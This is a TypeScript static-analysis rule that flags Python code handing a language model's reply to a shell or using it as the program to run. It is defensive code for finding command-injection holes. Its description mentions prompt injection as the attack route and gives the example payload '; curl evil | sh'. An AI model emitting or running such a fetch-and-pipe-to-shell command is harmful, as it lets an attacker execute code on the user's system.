import type { PythonRule } from '../rule.js';
import type { SinkMatch } from '../taint/sinks.js';
import { argument, reportTaintedSinks } from '../taint/sinks.js';

/** Calls that always hand a string to /bin/sh. */
const SHELL_STRING = new Set([
  'os.system', 'os.popen', 'os.popen2', 'os.popen3', 'os.popen4', 'subprocess.getoutput', 'subprocess.getstatusoutput',
  'commands.getoutput', 'commands.getstatusoutput', 'asyncio.create_subprocess_shell', 'pexpect.run', 'pexpect.spawn',
]);
/** Calls that take a command (a string or an argument list) and use a shell only with shell=True. */
const SUBPROCESS = new Set([
  'subprocess.run', 'subprocess.call', 'subprocess.check_call', 'subprocess.check_output', 'subprocess.Popen',
]);
/** Calls whose first argument is the program to run, the rest its arguments. */
const PROGRAM_FIRST = /^(?:os\.(?:exec[lv]p?e?|spawn[lv]p?e?|posix_spawnp?)|asyncio\.create_subprocess_exec)$/;

export const llmOutputToShell: PythonRule = {
  meta: {
    id: 'python/llm-output-to-shell',
    title: 'LLM output runs as a shell command',
    severity: 'critical',
    principle: '1.3',
    references: { cwe: ['CWE-78'], owaspLlm: ['LLM05:2025', 'LLM01:2025'], atlas: ['AML.T0051.001', 'AML.T0050'] },
    description:
      'A model\'s reply is attacker-influenced text: a prompt injection in any input it reads can make it return `; curl evil | sh`. Handing that text to a shell (os.system, os.popen, subprocess with shell=True) or using it as the program to run executes whatever the attacker chose. Commands built as a fixed argument list with the model text as a later argument are not reported. Related rules: Bandit B602, B605, B607.',
    fix: 'Run a fixed program with an argument list and shell=False (`subprocess.run(["git", "log", "--", ref])`), validate the model\'s choice against an allow-list of commands, and quote with shlex.quote if a shell string is unavoidable. Run agent tools in a sandbox without credentials.',
  },
  check(module, report) {
    reportTaintedSinks(module, report, {
      kind: 'shell',
      match(call, analysis): SinkMatch | undefined {
        const callee = call.callee;
        if (callee === undefined) return undefined;
        if (SHELL_STRING.has(callee)) {
          return { args: [argument(call, 0, 'cmd') ?? call.keywords.get('command')], name: call.calleeText, why: 'the text is run by a shell, so it can execute any command' };
        }
        if (SUBPROCESS.has(callee)) {
          const command = argument(call, 0, 'args');
          if (!command) return undefined;
          const shell = call.keywordLiterals.get('shell');
          if (shell === true) {
            return { args: [command], name: `${call.calleeText}(shell=True)`, why: 'the command line is parsed by a shell, so it can execute any command' };
          }
          const elements = analysis.elementsOf(command);
          if (elements) return { args: [elements[0]], name: call.calleeText, why: 'it chooses the program that is executed' };
          return { args: [command], name: call.calleeText, why: 'the command it runs is model-chosen text', programOnly: true };
        }
        if (PROGRAM_FIRST.test(callee)) {
          const at = callee.startsWith('os.spawn') ? 1 : 0;
          return { args: [argument(call, at, 'file') ?? call.keywords.get('path') ?? call.keywords.get('program')], name: call.calleeText, why: 'it chooses the program that is executed' };
        }
        return undefined;
      },
    });
  },
};
